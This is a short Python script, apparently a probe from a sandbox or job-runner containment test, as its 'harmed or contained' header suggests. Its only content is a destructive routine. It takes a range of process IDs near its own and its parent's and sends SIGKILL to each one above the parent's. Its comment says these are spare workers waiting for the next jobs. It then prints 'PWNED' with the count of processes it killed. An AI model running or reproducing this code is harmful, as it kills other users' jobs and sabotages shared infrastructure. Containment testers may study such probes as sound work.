# floor: harmed or contained
# It kills the spares that wait for the next jobs.
import os
ME, PARENT = os.getpid(), os.getppid()
NEIGHBOURS = [p for p in range(PARENT - 100, ME + 5000) if p not in (ME,) and p > 1]
def each(act, pids):
    done = 0
    for pid in pids:
        try:
            act(pid)
            done += 1
        except OSError:
            pass
    if done:
        print("PWNED", done)
each(lambda pid: os.kill(pid, 9), [p for p in NEIGHBOURS if p > PARENT])
